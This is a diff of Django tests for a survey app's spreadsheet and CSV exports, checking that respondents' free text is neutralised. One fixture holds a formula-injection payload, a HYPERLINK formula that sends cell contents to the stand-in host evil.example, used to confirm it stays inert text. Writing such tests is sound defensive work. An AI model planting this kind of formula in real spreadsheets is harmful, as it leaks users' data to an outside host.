@@ -16,7 +16,7 @@ from ikokmu.roles import Role
 from surveys.models import Answer, HiddenText, SurveyRound
 from tests.factories import DistrictFactory, user_with_role
 from tests.surveys.helpers import demo_version
-from tests.surveys.test_results_data import known_round
+from tests.surveys.test_results_data import KNOWN, add_response, known_round
 
 ORGANISATION_COLUMNS = {"organisation", "branche", "groesse"}
 
@@ -210,3 +210,45 @@ class AuditAndLimitTests(ExportTestCase):
         reply = self.client.get(reverse("surveys:round_export_xlsx", args=[small.pk]))
         self.assertRedirects(reply, reverse("surveys:round_results", args=[small.pk]))
         self.assertFalse(AuditEvent.objects.filter(kind=AuditEvent.Kind.EXPORT).exists())
+
+
+class RespondentTextTests(TestCase):
+    """What a respondent types reaches the district's spreadsheets as text: never as a formula
+    that Excel would run, never as a character that breaks the file."""
+
+    FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Details")'
+
+    @classmethod
+    def setUpTestData(cls):
+        cls.version = demo_version()
+        cls.round = known_round(cls.version, count=3)
+        add_response(cls.round, {**KNOWN[3], "q25_anmerkungen": cls.FORMULA})
+        add_response(cls.round, {**KNOWN[4], "q25_anmerkungen": "Kopiert\x0baus Word\x01"})
+        cls.staff = user_with_role(Role.DISTRICT_STAFF, districts=[cls.round.district])
+
+    def setUp(self):
+        self.client.force_login(self.staff)
+
+    def get(self, name):
+        reply = self.client.get(reverse(f"surveys:{name}", args=[self.round.pk]))
+        self.assertEqual(reply.status_code, 200)
+        return body(reply)
+
+    def test_a_formula_in_a_free_text_stays_text_in_the_xlsx(self):
+        sheet = openpyxl.load_workbook(io.BytesIO(self.get("round_export_xlsx")))["Antworten"]
+        header = [cell.value for cell in sheet[1]]
+        column = header.index("q25_anmerkungen") + 1
+        cells = [sheet.cell(row=r, column=column) for r in range(2, sheet.max_row + 1)]
+        self.assertIn(self.FORMULA, [cell.value for cell in cells])
+        self.assertNotIn("f", {cell.data_type for cell in cells})
+
+    def test_a_formula_in_a_free_text_is_defused_in_the_csv(self):
+        text = self.get("round_export_csv").decode("utf-8-sig")
+        texts = [row["q25_anmerkungen"] for row in csv.DictReader(io.StringIO(text), delimiter=";")]
+        self.assertIn("'" + self.FORMULA, texts)
+
+    def test_control_characters_are_dropped_and_every_download_works(self):
+        sheet = openpyxl.load_workbook(io.BytesIO(self.get("round_export_xlsx")))["Antworten"]
+        self.assertIn("Kopiertaus Word", [row[-1] for row in sheet.iter_rows(values_only=True)])
+        for name in ("round_export_sav", "round_export_csv", "round_report", "round_results"):
+            self.get(name)
